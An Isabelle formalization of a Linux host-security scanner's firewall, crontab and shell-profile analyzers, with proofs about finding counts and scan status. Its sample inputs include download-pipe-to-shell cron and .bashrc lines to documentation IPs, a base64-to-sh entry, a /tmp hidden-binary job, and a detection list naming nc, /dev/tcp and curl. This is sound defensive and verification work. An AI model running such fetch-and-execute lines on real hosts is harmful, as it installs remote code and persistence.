definition isSshOpenToAll :: "UfwData \<Rightarrow> string \<Rightarrow> bool" where
  "isSshOpenToAll ufw_v iptables_v =
     (if active ufw_v \<and> rules ufw_v \<noteq> [] then ufw_rules_loop (split_lines (rules ufw_v))
      else if iptables_v \<noteq> [] \<and> iptables_loop (split_lines iptables_v) False then True
      else if iptables_v \<noteq> [] \<and> re_input_policy_accept iptables_v then True
      else if \<not> active ufw_v then True
      else False)"

definition ufw_inactive_finding :: "string \<Rightarrow> Finding" where
  "ufw_inactive_finding i =
     \<lparr>id_f = i, module = ''firewall'', severity = HIGH,
      title = ''UFW firewall is not active'',
      description =
          ''The Uncomplicated Firewall (UFW) is not active. Without a host '' @
          ''firewall, all listening services are exposed to the network. This '' @
          ''significantly increases the attack surface.'',
      details = Some [(''ufwActive'', JBool False)],
      remediation = Some
         (''Enable UFW with sensible defaults: '' @ dq @
          ''ufw default deny incoming && ufw default allow outgoing && ufw '' @
          ''allow ssh && ufw --force enable'' @ dq @
          ''. Adjust rules based on required services.'')\<rparr>"

definition fail2ban_missing_finding :: "string \<Rightarrow> Finding" where
  "fail2ban_missing_finding i =
     \<lparr>id_f = i, module = ''firewall'', severity = MEDIUM,
      title = ''Fail2ban is not running'',
      description =
          ''Fail2ban is not installed or not running. Without fail2ban, the '' @
          ''server has no automated brute-force protection for SSH and other '' @
          ''services.'',
      details = Some [(''fail2banRunning'', JBool False)],
      remediation = Some
         (''Install and configure fail2ban: '' @ dq @ ''apt install fail2ban -y'' @ dq @
          ''. Enable at minimum the sshd jail by creating '' @
          ''/etc/fail2ban/jail.local with '' @ dq @ ''[sshd]'' @ bs @
          ''nenabled = true'' @ dq @ ''.'')\<rparr>"

definition sshd_jail_finding :: "string list \<Rightarrow> string \<Rightarrow> Finding" where
  "sshd_jail_finding jails_v i =
     \<lparr>id_f = i, module = ''firewall'', severity = MEDIUM,
      title = ''Fail2ban sshd jail is not active'',
      description =
          ''Fail2ban is running but the sshd jail is not active. SSH '' @
          ''brute-force attacks will not be automatically blocked.'',
      details = Some [(''jails'', JArr (map JStr jails_v))],
      remediation = Some
         (''Enable the sshd jail in /etc/fail2ban/jail.local: '' @ dq @ ''[sshd]'' @ bs @
          ''nenabled = true'' @ dq @ '' and restart fail2ban.'')\<rparr>"

definition ssh_open_finding :: "string \<Rightarrow> Finding" where
  "ssh_open_finding i =
     \<lparr>id_f = i, module = ''firewall'', severity = MEDIUM,
      title = ''SSH is not restricted by firewall'',
      description =
          ''SSH (port 22) appears to be accessible from any source address '' @
          ''(0.0.0.0/0). Restricting SSH access to known IP ranges reduces '' @
          ''exposure to brute-force attacks and zero-day exploits.'',
      details = Some [(''sshRestricted'', JBool False)],
      remediation = Some
         (''Restrict SSH access to specific IP addresses or ranges: '' @ dq @
          ''ufw delete allow ssh && ufw allow from <trusted-ip>/32 to any '' @
          ''port 22'' @ dq @
          ''. Consider using a VPN or bastion host for remote access.'')\<rparr>"

definition FirewallAnalyzer_analyze :: "FirewallData \<Rightarrow> Finding list" where
  "FirewallAnalyzer_analyze d =
     (let ufw_v = nullish \<lparr>active = False, rules = ''''\<rparr> (ufw d);
          fail2ban_v = nullish \<lparr>running = False, jails = [], sshdStatus = ''''\<rparr> (fail2ban d);
          iptables_v = nullish '''' (iptables d);
          st1 = (if \<not> active ufw_v then push ''FW'' ufw_inactive_finding (0, []) else (0, []));
          st2 = (if \<not> running fail2ban_v then push ''FW'' fail2ban_missing_finding st1
                 else let hasSshdJail =
                            list_ex (\<lambda>j. toLowerCase j = ''sshd'' \<or> toLowerCase j = ''ssh'')
                              (jails fail2ban_v)
                      in if \<not> hasSshdJail then push ''FW'' (sshd_jail_finding (jails fail2ban_v)) st1
                         else st1);
          st3 = (if isSshOpenToAll ufw_v iptables_v then push ''FW'' ssh_open_finding st2 else st2)
      in snd st3)"

section \<open>Crontab analyzer (src/analyzers/crontabs.ts, CrontabAnalyzer)\<close>

record CronDirEntry =
  name_cd :: string
  content_cd :: string

record UserCrontab =
  user_uc :: string
  content_uc :: string

record CrontabData =
  rootCrontab :: "string option"
  systemCrontab :: "string option"
  cronDirs :: "CronDirEntry list option"
  userCrontabs :: "UserCrontab list option"

record CronSource =
  label :: string
  content :: string

definition crontab_sources :: "CrontabData \<Rightarrow> CronSource list" where
  "crontab_sources d =
     (let rootCrontab_v = nullish '''' (rootCrontab d);
          systemCrontab_v = nullish '''' (systemCrontab d);
          cronDirs_v = nullish [] (cronDirs d);
          userCrontabs_v = nullish [] (userCrontabs d)
      in (if rootCrontab_v \<noteq> [] then [\<lparr>label = ''root crontab'', content = rootCrontab_v\<rparr>]
          else [])
         @ (if systemCrontab_v \<noteq> [] then [\<lparr>label = ''/etc/crontab'', content = systemCrontab_v\<rparr>]
            else [])
         @ map (\<lambda>entry. \<lparr>label = ''/etc/cron.d/'' @ name_cd entry, content = content_cd entry\<rparr>)
             cronDirs_v
         @ map (\<lambda>entry. \<lparr>label = ''crontab (user: '' @ user_uc entry @ '')'',
                           content = content_uc entry\<rparr>)
             userCrontabs_v)"

text \<open>In the four findings below \<open>i\<close> is the loop index of the line (from 0) and
  \<open>line\<close> the trimmed line.\<close>

definition cron_download_finding :: "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> Finding" where
  "cron_download_finding source_label i line fid =
     \<lparr>id_f = fid, module = ''crontabs'', severity = CRITICAL,
      title = ''Crontab downloads and executes remote code'',
      description =
          ''Entry in '' @ source_label @ '' (line '' @ nat_dec (i + 1) @
          '') pipes a download command directly to a shell interpreter: '' @ dq @
          truncate_text line 120 @ dq @
          ''. This is the most common malware persistence technique via cron.'',
      details = Some [(''source'', JStr source_label), (''lineNumber'', JNum (int (i + 1))),
                      (''line'', JStr line)],
      remediation = Some
         (''Remove the crontab entry immediately. Investigate the URL being '' @
          ''fetched and check for additional compromise indicators.'')\<rparr>"

definition cron_base64_finding :: "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> Finding" where
  "cron_base64_finding source_label i line fid =
     \<lparr>id_f = fid, module = ''crontabs'', severity = HIGH,
      title = ''Crontab contains base64-encoded command'',
      description =
          ''Entry in '' @ source_label @ '' (line '' @ nat_dec (i + 1) @
          '') uses base64 decoding: '' @ dq @ truncate_text line 120 @ dq @
          ''. Attackers encode payloads in base64 to evade simple pattern '' @
          ''matching.'',
      details = Some [(''source'', JStr source_label), (''lineNumber'', JNum (int (i + 1))),
                      (''line'', JStr line)],
      remediation = Some
         (''Decode and inspect the base64 payload. Remove the crontab entry '' @
          ''if it is malicious.'')\<rparr>"

definition cron_tmp_finding :: "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> Finding" where
  "cron_tmp_finding source_label i line tmpMatch0 fid =
     \<lparr>id_f = fid, module = ''crontabs'', severity = HIGH,
      title = ''Crontab runs binary from temporary directory'',
      description =
          ''Entry in '' @ source_label @ '' (line '' @ nat_dec (i + 1) @
          '') references a path in a temporary directory: '' @ dq @ tmpMatch0 @ dq @
          ''. Legitimate cron jobs should not execute from /tmp, /var/tmp, or '' @
          ''/dev/shm.'',
      details = Some [(''source'', JStr source_label), (''lineNumber'', JNum (int (i + 1))),
                      (''line'', JStr line), (''path'', JStr tmpMatch0)],
      remediation = Some
         (''Remove the crontab entry. Investigate and delete the binary at '' @ dq @
          tmpMatch0 @ dq @ ''.'')\<rparr>"

definition cron_hidden_finding :: "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> Finding" where
  "cron_hidden_finding source_label i line hiddenMatch0 fid =
     \<lparr>id_f = fid, module = ''crontabs'', severity = HIGH,
      title = ''Crontab runs binary from hidden directory'',
      description =
          ''Entry in '' @ source_label @ '' (line '' @ nat_dec (i + 1) @
          '') references a hidden directory path: '' @ dq @ hiddenMatch0 @ dq @
          ''. Malware frequently hides in dot-prefixed directories.'',
      details = Some [(''source'', JStr source_label), (''lineNumber'', JNum (int (i + 1))),
                      (''line'', JStr line), (''path'', JStr hiddenMatch0)],
      remediation = Some
         (''Remove the crontab entry. Investigate the hidden directory and '' @
          ''remove any malicious files.'')\<rparr>"

text \<open>The body of the inner loop for the line \<open>lines[i]\<close>.\<close>

definition cron_line :: "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> nat \<times> Finding list \<Rightarrow> nat \<times> Finding list" where
  "cron_line source_label i raw_line st =
     (let line = trim raw_line in
      if line = [] \<or> startsWith line ''#'' \<or> re_assignment line then st
      else
        let st1 = (if DOWNLOAD_PIPE_RE line
                   then push ''CRON'' (cron_download_finding source_label i line) st else st);
            st2 = (if BASE64_RE line
                   then push ''CRON'' (cron_base64_finding source_label i line) st1 else st1);
            tmpMatch = TMP_EXEC_RE_exec line;
            st3 = (case tmpMatch of
                     Some m \<Rightarrow> push ''CRON'' (cron_tmp_finding source_label i line m) st2
                   | None \<Rightarrow> st2);
            hiddenMatch = HIDDEN_DIR_EXEC_RE_exec line
        in (case hiddenMatch of
              Some m \<Rightarrow>
                if tmpMatch = None
                then push ''CRON'' (cron_hidden_finding source_label i line m) st3 else st3
            | None \<Rightarrow> st3))"

fun cron_lines :: "string \<Rightarrow> nat \<Rightarrow> string list \<Rightarrow> nat \<times> Finding list \<Rightarrow> nat \<times> Finding list" where
  "cron_lines source_label i [] st = st"
| "cron_lines source_label i (l # ls) st =
     cron_lines source_label (i + 1) ls (cron_line source_label i l st)"

definition CrontabAnalyzer_analyze :: "CrontabData \<Rightarrow> Finding list" where
  "CrontabAnalyzer_analyze d =
     snd (foldl (\<lambda>st src. cron_lines (label src) 0 (split_lines (content src)) st) (0, [])
            (crontab_sources d))"

section \<open>Shell-profile analyzer (src/analyzers/shell.ts, ShellAnalyzer)\<close>

record SuspiciousEntry =
  file_se :: string
  line_se :: string
  lineNumber :: nat
  matchedPattern :: string

definition HIGH_SEVERITY_PATTERNS :: "string list" where
  "HIGH_SEVERITY_PATTERNS =
     [''wget'', ''curl'', ''nc'', ''ncat'', ''eval'', ''/dev/tcp'', ''/dev/udp'', ''.onion'']"

definition MEDIUM_SEVERITY_PATTERNS :: "string list" where
  "MEDIUM_SEVERITY_PATTERNS = [''base64'', ''exec'', ''python.*http'']"

definition classifySeverity :: "string \<Rightarrow> Severity" where
  "classifySeverity pattern =
     (let lower = toLowerCase pattern in
      if lower \<in> set HIGH_SEVERITY_PATTERNS then HIGH
      else if lower \<in> set MEDIUM_SEVERITY_PATTERNS then MEDIUM
      else if list_ex (\<lambda>p. includes_js lower p \<or> includes_js p lower) MEDIUM_SEVERITY_PATTERNS
      then MEDIUM
      else HIGH)"

definition describePattern :: "string \<Rightarrow> string" where
  "describePattern pattern =
     (let lower = toLowerCase pattern in
      if lower = ''wget'' \<or> lower = ''curl'' then ''download tool''
      else if lower = ''nc'' \<or> lower = ''ncat'' then ''network utility (potential reverse shell)''
      else if lower = ''eval'' \<or> lower = ''exec'' then ''dynamic code execution''
      else if lower = ''base64'' then ''encoding/obfuscation''
      else if includes_js lower ''/dev/tcp'' \<or> includes_js lower ''/dev/udp''
      then ''bash network redirection''
      else if includes_js lower ''.onion'' then ''Tor hidden service reference''
      else if includes_js lower ''python'' \<and> includes_js lower ''http''
      then ''Python HTTP server/client''
      else ''suspicious command'')"

definition shell_finding :: "SuspiciousEntry \<Rightarrow> string \<Rightarrow> Finding" where
  "shell_finding entry i =
     (let severity_v = classifySeverity (matchedPattern entry);
          category = describePattern (matchedPattern entry)
      in \<lparr>id_f = i, module = ''shell'', severity = severity_v,
          title = ''Suspicious pattern in shell profile: '' @ matchedPattern entry,
          description =
              ''File '' @ dq @ file_se entry @ dq @ '' line '' @
              nat_dec (lineNumber entry) @ '' contains a '' @ category @ '' pattern ('' @
              dq @ matchedPattern entry @ dq @ ''): '' @ dq @
              truncate_text (trim (line_se entry)) 150 @ dq @
              ''. Shell profile files run on every login and are a common '' @
              ''persistence mechanism for malware.'',
          details = Some [(''file'', JStr (file_se entry)),
                          (''lineNumber'', JNum (int (lineNumber entry))),
                          (''line'', JStr (line_se entry)),
                          (''matchedPattern'', JStr (matchedPattern entry))],
          remediation = Some
             (''Review line '' @ nat_dec (lineNumber entry) @ '' of '' @ dq @
              file_se entry @ dq @
              ''. If the entry is not expected, remove it and investigate how it '' @
              ''was added. Check recent modification times with '' @ dq @ ''stat '' @
              file_se entry @ dq @ ''.'')\<rparr>)"

definition ShellAnalyzer_analyze :: "SuspiciousEntry list option \<Rightarrow> Finding list" where
  "ShellAnalyzer_analyze suspiciousEntries =
     snd (foldl (\<lambda>st entry. push ''SHELL'' (shell_finding entry) st) (0, [])
            (nullish [] suspiciousEntries))"

section \<open>Functions used to state the properties\<close>

text \<open>The number of findings of one severity.\<close>

definition count_sev :: "Severity \<Rightarrow> Finding list \<Rightarrow> nat" where
  "count_sev s fs = length (filter (\<lambda>f. severity f = s) fs)"

text \<open>What \<open>collect\<close> or \<open>analyze\<close> of a registered module throws, if anything.\<close>

definition thrown_by ::
  "(string \<rightharpoonup> Collector) \<Rightarrow> (string \<rightharpoonup> Analyzer) \<Rightarrow> ThreatDB \<Rightarrow> string \<Rightarrow> thrown option" where
  "thrown_by creg areg db moduleName =
     (case (creg moduleName, areg moduleName) of
        (Some collector, Some analyzer) \<Rightarrow>
          (case collector () of
             Inl err \<Rightarrow> Some err
           | Inr collectorResult \<Rightarrow>
               (case analyzer collectorResult db of Inl err \<Rightarrow> Some err | Inr fs \<Rightarrow> None))
      | _ \<Rightarrow> None)"

text \<open>The module results the loop appends when it starts at clock reading \<open>k\<close>.\<close>

fun module_results ::
  "(string \<rightharpoonup> Collector) \<Rightarrow> (string \<rightharpoonup> Analyzer) \<Rightarrow> ThreatDB \<Rightarrow> (nat \<Rightarrow> int) \<Rightarrow> nat
     \<Rightarrow> string list \<Rightarrow> ModuleResult list" where
  "module_results creg areg db now k [] = []"
| "module_results creg areg db now k (m # ms) =
     (case try_module creg areg db m of
        (fs, rd, err) \<Rightarrow>
          \<lparr>module_mr = m, findings_mr = fs, rawData = rd,
           durationMs_mr = now (k + 1) - now k, error = err\<rparr>)
     # module_results creg areg db now (k + 2) ms"

text \<open>The findings a loop of \<open>push\<close> calls appends when the counter is \<open>n\<close>.\<close>

fun pushed :: "string \<Rightarrow> ('a \<Rightarrow> string \<Rightarrow> Finding) \<Rightarrow> nat \<Rightarrow> 'a list \<Rightarrow> Finding list" where
  "pushed p mk n [] = []"
| "pushed p mk n (x # xs) = mk x (nextId p (n + 1)) # pushed p mk (n + 1) xs"

section \<open>Concrete inputs\<close>

definition sample_finding :: "Severity \<Rightarrow> Finding" where
  "sample_finding s =
     \<lparr>id_f = ''NET-001'', module = ''network'', severity = s, title = ''Suspicious listening port'',
      description = ''Port is listening'', details = None, remediation = None\<rparr>"

definition sample_platform :: PlatformInfo where
  "sample_platform =
     \<lparr>hostname_pi = ''web01'', os_pi = ''Ubuntu 22.04'', kernel_pi = ''5.15.0'', ip_pi = ''10.0.0.5''\<rparr>"

definition sample_clock :: "nat \<Rightarrow> int" where
  "sample_clock k = 1000 + 5 * int k"

definition sample_db :: ThreatDB where
  "sample_db =
     \<lparr>ports = [\<lparr>port = 3333, name_pe = ''Mining pool (Stratum)'', severity_pe = ''high'',
                direction = ''outbound''\<rparr>,
               \<lparr>port = 4444, name_pe = ''Metasploit default listener'', severity_pe = ''critical'',
                direction = ''listening''\<rparr>]\<rparr>"

text \<open>A collector that rejects with \<open>new Error(msg)\<close>, one that resolves with no data, an
  analyzer that reports one finding and one that throws.\<close>

definition rejecting_collector :: "string \<Rightarrow> Collector" where
  "rejecting_collector msg u = Inl (ErrorObj msg)"

definition empty_collector :: "string \<Rightarrow> Collector" where
  "empty_collector m u = Inr \<lparr>module_cr = m, data = [], raw = ''''\<rparr>"

definition one_finding_analyzer :: Analyzer where
  "one_finding_analyzer cr db = Inr [sample_finding MEDIUM]"

definition sample_collectors :: "string \<rightharpoonup> Collector" where
  "sample_collectors =
     [''ssh'' \<mapsto> rejecting_collector ''EACCES: permission denied'',
      ''network'' \<mapsto> empty_collector ''network'']"

definition silent_collectors :: "string \<rightharpoonup> Collector" where
  "silent_collectors = [''ssh'' \<mapsto> rejecting_collector '''']"

definition sample_analyzers :: "string \<rightharpoonup> Analyzer" where
  "sample_analyzers = [''ssh'' \<mapsto> one_finding_analyzer, ''network'' \<mapsto> one_finding_analyzer]"

definition inactive_ufw_strict_iptables :: FirewallData where
  "inactive_ufw_strict_iptables =
     \<lparr>ufw = Some \<lparr>active = False, rules = ''''\<rparr>,
      fail2ban = Some \<lparr>running = True, jails = [''sshd''], sshdStatus = ''''\<rparr>,
      iptables = Some (''Chain INPUT (policy DROP)'' @ [CHR 0x0A] @
                       ''ACCEPT tcp -- 10.0.0.0/8 anywhere tcp dpt:22'')\<rparr>"

definition kinsing_preload :: RootkitData where
  "kinsing_preload =
     \<lparr>ldPreload = Some ''/etc/data/libsystem.so'', suspiciousSoFiles = Some [],
      etcDataExists = Some False, etcDataFiles = Some []\<rparr>"

definition commented_preload :: RootkitData where
  "commented_preload =
     \<lparr>ldPreload = Some ''# /usr/lib/libkeepalive.so'', suspiciousSoFiles = None,
      etcDataExists = None, etcDataFiles = None\<rparr>"

definition two_private_keys :: CredentialsData where
  "two_private_keys =
     \<lparr>envFiles = None, serviceAccountKeys = None, gitCredentials = None,
      sshPrivateKeys = Some [''/root/.ssh/id_rsa'', ''/home/deploy/.ssh/id_ed25519'']\<rparr>"

definition three_private_keys :: CredentialsData where
  "three_private_keys =
     \<lparr>envFiles = Some [\<lparr>path_ef = ''/srv/app/.env'', size_ef = ''212''\<rparr>],
      serviceAccountKeys = None, gitCredentials = None,
      sshPrivateKeys = Some [''/root/.ssh/id_rsa'', ''/root/.ssh/id_ecdsa'',
                             ''/etc/ssl/private/site.pem'']\<rparr>"

text \<open>A crontab line of 143 characters and a profile line of 199 characters.\<close>

definition long_cron_line :: string where
  "long_cron_line =
     ''*/10 * * * * curl -fsSL http://203.0.113.7/'' @ replicate 90 (CHR ''a'') @ ''.sh | bash''"

definition long_cron :: CrontabData where
  "long_cron =
     \<lparr>rootCrontab = Some long_cron_line, systemCrontab = None, cronDirs = None,
      userCrontabs = None\<rparr>"

definition long_profile_entry :: SuspiciousEntry where
  "long_profile_entry =
     \<lparr>file_se = ''/root/.bashrc'',
      line_se = ''  curl -s http://198.51.100.9/'' @ replicate 164 (CHR ''b'') @ '' | sh'',
      lineNumber = 17, matchedPattern = ''curl''\<rparr>"

text \<open>The findings due for the trimmed line \<open>l\<close> at index \<open>k\<close> of a crontab source, each
  still waiting for its id; then those of the lines of a source from index \<open>i\<close> on, and
  those of all sources.\<close>

definition cron_due :: "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> (string \<Rightarrow> Finding) list" where
  "cron_due lbl k l =
     (if l = [] \<or> startsWith l ''#'' \<or> re_assignment l then []
      else (if DOWNLOAD_PIPE_RE l then [cron_download_finding lbl k l] else [])
         @ (if BASE64_RE l then [cron_base64_finding lbl k l] else [])
         @ (case TMP_EXEC_RE_exec l of Some m \<Rightarrow> [cron_tmp_finding lbl k l m] | None \<Rightarrow> [])
         @ (case HIDDEN_DIR_EXEC_RE_exec l of
              Some m \<Rightarrow> if TMP_EXEC_RE_exec l = None then [cron_hidden_finding lbl k l m] else []
            | None \<Rightarrow> []))"

definition cron_due_lines :: "string \<Rightarrow> nat \<Rightarrow> string list \<Rightarrow> (string \<Rightarrow> Finding) list" where
  "cron_due_lines lbl i ls = concat (map (\<lambda>(k, rl). cron_due lbl k (trim rl)) (enumerate i ls))"

definition cron_due_all :: "CrontabData \<Rightarrow> (string \<Rightarrow> Finding) list" where
  "cron_due_all d =
     concat (map (\<lambda>src. cron_due_lines (label src) 0 (split_lines (content src)))
               (crontab_sources d))"

text \<open>A user crontab with a base64 line and a line running a binary from a hidden
  directory under /tmp.\<close>

definition deploy_crontab :: CrontabData where
  "deploy_crontab =
     \<lparr>rootCrontab = None, systemCrontab = None, cronDirs = None,
      userCrontabs = Some [\<lparr>user_uc = ''deploy'',
        content_uc = ''0 3 * * * echo aGk= | base64 -d | sh'' @ [CHR 0x0A] @
                     ''@reboot /tmp/.cache/kworker --bg''\<rparr>]\<rparr>"

definition deploy_source :: CronSource where
  "deploy_source =
     \<lparr>label = ''crontab (user: deploy)'',
      content = ''0 3 * * * echo aGk= | base64 -d | sh'' @ [CHR 0x0A] @
                ''@reboot /tmp/.cache/kworker --bg''\<rparr>"

section \<open>Summary: buckets, total and status\<close>

lemma summary_loop_counts:
  "summary_loop fs c m = (c', m') \<Longrightarrow>
     critical c' = critical c + count_sev CRITICAL fs \<and>
     high c' = high c + count_sev HIGH fs \<and>
     medium c' = medium c + count_sev MEDIUM fs \<and>
     low c' = low c + count_sev LOW fs \<and>
     info c' = info c + count_sev INFO fs"
proof (induction fs arbitrary: c m)
  case Nil
  then show ?case by (simp add: count_sev_def)
next
  case (Cons f fs)
  from Cons.prems have "summary_loop fs (count_finding f c) (raise_max f m) = (c', m')" by simp
  from Cons.IH [OF this] show ?case
    by (cases "severity f") (simp_all add: count_finding_def count_sev_def)
qed

lemma count_sev_total:
  "count_sev CRITICAL fs + count_sev HIGH fs + count_sev MEDIUM fs + count_sev LOW fs
     + count_sev INFO fs = length fs"
proof (induction fs)
  case Nil
  show ?case by (simp add: count_sev_def)
next
  case (Cons f fs)
  then show ?case by (cases "severity f") (simp_all add: count_sev_def)
qed

lemma count_sev_pos: "(0 < count_sev s fs) = (\<exists>f \<in> set fs. severity f = s)"
  by (induction fs) (auto simp: count_sev_def)

lemma summary_loop_max_mem:
  "summary_loop fs c m = (c', m') \<Longrightarrow> m' \<in> insert m (severity ` set fs)"
proof (induction fs arbitrary: c m)
  case Nil
  then show ?case by simp
next
  case (Cons f fs)
  from Cons.prems have "summary_loop fs (count_finding f c) (raise_max f m) = (c', m')" by simp
  from Cons.IH [OF this] show ?case by (auto simp: raise_max_def)
qed

lemma buildSummary_loop:
  obtains c m where
    "summary_loop fs \<lparr>critical = 0, high = 0, medium = 0, low = 0, info = 0\<rparr> INFO = (c, m)"
    "buildSummary fs =
       \<lparr>critical = critical c, high = high c, medium = medium c, low = low c, info = info c,
        total_n = length fs, status = status_of c, maxSeverity = m\<rparr>"
proof -
  obtain c m where
    loop: "summary_loop fs \<lparr>critical = 0, high = 0, medium = 0, low = 0, info = 0\<rparr> INFO = (c, m)"
    by (cases "summary_loop fs \<lparr>critical = 0, high = 0, medium = 0, low = 0, info = 0\<rparr> INFO")
  then show ?thesis using that by (simp add: buildSummary_def)
qed

lemma buildSummary_counts:
  "critical (buildSummary fs) = count_sev CRITICAL fs"
  "high (buildSummary fs) = count_sev HIGH fs"
  "medium (buildSummary fs) = count_sev MEDIUM fs"
  "low (buildSummary fs) = count_sev LOW fs"
  "info (buildSummary fs) = count_sev INFO fs"
  "total_n (buildSummary fs) = length fs"
proof -
  obtain c m where
    loop: "summary_loop fs \<lparr>critical = 0, high = 0, medium = 0, low = 0, info = 0\<rparr> INFO = (c, m)"
    and s: "buildSummary fs =
       \<lparr>critical = critical c, high = high c, medium = medium c, low = low c, info = info c,
        total_n = length fs, status = status_of c, maxSeverity = m\<rparr>"
    by (rule buildSummary_loop)
  from summary_loop_counts [OF loop]
  show "critical (buildSummary fs) = count_sev CRITICAL fs"
       "high (buildSummary fs) = count_sev HIGH fs"
       "medium (buildSummary fs) = count_sev MEDIUM fs"
       "low (buildSummary fs) = count_sev LOW fs"
       "info (buildSummary fs) = count_sev INFO fs"
       "total_n (buildSummary fs) = length fs"
    by (simp_all add: s)
qed

lemma buildSummary_status:
  "status (buildSummary fs) =
     (if 0 < count_sev CRITICAL fs then COMPROMISED
      else if 0 < count_sev HIGH fs then THREATS_FOUND
      else if 0 < count_sev MEDIUM fs then WARNINGS
      else if 0 < count_sev LOW fs \<or> 0 < count_sev INFO fs then INFORMATIONAL
      else CLEAN)"
proof -
  obtain c m where
    loop: "summary_loop fs \<lparr>critical = 0, high = 0, medium = 0, low = 0, info = 0\<rparr> INFO = (c, m)"
    and s: "buildSummary fs =
       \<lparr>critical = critical c, high = high c, medium = medium c, low = low c, info = info c,
        total_n = length fs, status = status_of c, maxSeverity = m\<rparr>"
    by (rule buildSummary_loop)
  from summary_loop_counts [OF loop] show ?thesis
    by (simp add: s status_of_def)
qed

lemma buildSummary_maxSeverity_mem:
  "maxSeverity (buildSummary fs) \<in> insert INFO (severity ` set fs)"
proof -
  obtain c m where
    loop: "summary_loop fs \<lparr>critical = 0, high = 0, medium = 0, low = 0, info = 0\<rparr> INFO = (c, m)"
    and s: "buildSummary fs =
       \<lparr>critical = critical c, high = high c, medium = medium c, low = low c, info = info c,
        total_n = length fs, status = status_of c, maxSeverity = m\<rparr>"
    by (rule buildSummary_loop)
  from summary_loop_max_mem [OF loop] show ?thesis by (simp add: s)
qed

text \<open>
  C2. The status is a priority ladder over which severities are present: COMPROMISED when
  a CRITICAL finding is present, else THREATS_FOUND when a HIGH one is, else WARNINGS when
  a MEDIUM one is, else INFORMATIONAL when a LOW or INFO one is, else CLEAN; how many
  findings a bucket holds plays no part.
\<close>

theorem status_priority_ladder:
  "status (buildSummary fs) =
     (if \<exists>f \<in> set fs. severity f = CRITICAL then COMPROMISED
      else if \<exists>f \<in> set fs. severity f = HIGH then THREATS_FOUND
      else if \<exists>f \<in> set fs. severity f = MEDIUM then WARNINGS
      else if \<exists>f \<in> set fs. severity f = LOW \<or> severity f = INFO then INFORMATIONAL
      else CLEAN)"
  unfolding buildSummary_status count_sev_pos by auto

theorem status_priority_ladder_witness:
  "medium (buildSummary (sample_finding MEDIUM # replicate 5 (sample_finding LOW)
                           @ replicate 9 (sample_finding INFO))) = 1
   \<and> low (buildSummary (sample_finding MEDIUM # replicate 5 (sample_finding LOW)
                           @ replicate 9 (sample_finding INFO))) = 5
   \<and> info (buildSummary (sample_finding MEDIUM # replicate 5 (sample_finding LOW)
                           @ replicate 9 (sample_finding INFO))) = 9
   \<and> status (buildSummary (sample_finding MEDIUM # replicate 5 (sample_finding LOW)
                           @ replicate 9 (sample_finding INFO))) = WARNINGS"
  using status_priority_ladder
          [of "sample_finding MEDIUM # replicate 5 (sample_finding LOW)
                 @ replicate 9 (sample_finding INFO)"]
  by (simp add: buildSummary_counts count_sev_def sample_finding_def)

section \<open>Orchestrator: the module loop\<close>

lemma run_loop_eq:
  "run_loop creg areg db now k ms (mrs, fs) =
     (k + 2 * length ms, mrs @ module_results creg areg db now k ms,
      fs @ concat (map findings_mr (module_results creg areg db now k ms)))"
proof (induction ms arbitrary: k mrs fs)
  case Nil
  show ?case by simp
next
  case (Cons m ms)
  obtain a b c where t: "try_module creg areg db m = (a, b, c)"
    by (cases "try_module creg areg db m")
  show ?case by (simp add: t Cons.IH)
qed

lemma run_modules:
  "modules (run creg areg db platform now ms) = module_results creg areg db now 1 ms"
  by (simp add: run_def run_loop_eq)

lemma run_findings:
  "findings (run creg areg db platform now ms) =
     concat (map findings_mr (module_results creg areg db now 1 ms))"
  by (simp add: run_def run_loop_eq)

lemma run_summary:
  "summary (run creg areg db platform now ms) =
     buildSummary (findings (run creg areg db platform now ms))"
  by (simp add: run_def run_loop_eq)

lemma module_results_length [simp]:
  "length (module_results creg areg db now k ms) = length ms"
  by (induction ms arbitrary: k) (simp_all split: prod.splits)

lemma module_results_names:
  "map module_mr (module_results creg areg db now k ms) = ms"
  by (induction ms arbitrary: k) (simp_all split: prod.splits)

lemma module_results_nth:
  "i < length ms \<Longrightarrow>
     module_results creg areg db now k ms ! i =
       (case try_module creg areg db (ms ! i) of
          (fs, rd, err) \<Rightarrow>
            \<lparr>module_mr = ms ! i, findings_mr = fs, rawData = rd,
             durationMs_mr = now (k + 2 * i + 1) - now (k + 2 * i), error = err\<rparr>)"
proof (induction ms arbitrary: k i)
  case Nil
  then show ?case by simp
next
  case (Cons m ms)
  show ?case
  proof (cases i)
    case 0
    then show ?thesis by simp
  next
    case (Suc j)
    with Cons.prems have "j < length ms" by simp
    from Cons.IH [OF this, of "k + 2"] Suc show ?thesis by simp
  qed
qed

lemma try_module_thrown:
  "thrown_by creg areg db m = Some e \<Longrightarrow>
     \<exists>rd. try_module creg areg db m = ([], rd, Some (error_text e))"
  by (auto simp: thrown_by_def try_module_def split: option.splits sum.splits)

lemma try_module_ok:
  "creg m = Some c \<Longrightarrow> areg m = Some a \<Longrightarrow> c () = Inr cr \<Longrightarrow> a cr db = Inr fs \<Longrightarrow>
     try_module creg areg db m = (fs, data cr, None)"
  by (simp add: try_module_def)

text \<open>
  C3. For every scan result the summary's total is the sum of the five severity buckets and
  the length of the flattened findings list, and each bucket holds exactly the findings of
  its severity.
\<close>

theorem summary_total_is_sum_and_length:
  "total_n (summary (run creg areg db platform now ms)) =
     critical (summary (run creg areg db platform now ms))
       + high (summary (run creg areg db platform now ms))
       + medium (summary (run creg areg db platform now ms))
       + low (summary (run creg areg db platform now ms))
       + info (summary (run creg areg db platform now ms))
   \<and> total_n (summary (run creg areg db platform now ms)) =
       length (findings (run creg areg db platform now ms))
   \<and> total_n (buildSummary fs) =
       critical (buildSummary fs) + high (buildSummary fs) + medium (buildSummary fs)
         + low (buildSummary fs) + info (buildSummary fs)
   \<and> total_n (buildSummary fs) = length fs
   \<and> critical (buildSummary fs) = count_sev CRITICAL fs
   \<and> high (buildSummary fs) = count_sev HIGH fs
   \<and> medium (buildSummary fs) = count_sev MEDIUM fs
   \<and> low (buildSummary fs) = count_sev LOW fs
   \<and> info (buildSummary fs) = count_sev INFO fs"
  using count_sev_total [of fs]
        count_sev_total [of "findings (run creg areg db platform now ms)"]
  by (simp add: run_summary buildSummary_counts)

text \<open>
